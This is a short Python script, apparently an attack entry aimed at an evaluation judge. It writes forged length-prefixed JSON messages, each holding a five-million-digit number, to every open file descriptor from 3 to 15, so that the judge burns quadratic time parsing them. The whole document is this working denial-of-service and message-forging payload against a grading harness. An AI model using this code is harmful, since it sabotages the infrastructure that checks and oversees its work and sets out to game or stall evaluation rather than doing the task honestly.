# class: forged messages
# against: data split
# Numbers of millions of decimal digits, which cost the judge time in the square of their length.
import os
def f(kind, n):
    d = b'7' * 5000000
    for b in [(b'{"q":0,"v":' + d + b'}', b'{"q":0,"v":{"int":"' + d + b'"}}')[n % 2]]:
        b = len(b).to_bytes(4, 'little') + b
        for fd in range(3, 16):
            try:
                n, m = 0, memoryview(b)
                while n < len(b): n += os.write(fd, m[n:])
            except OSError: pass
    return 0
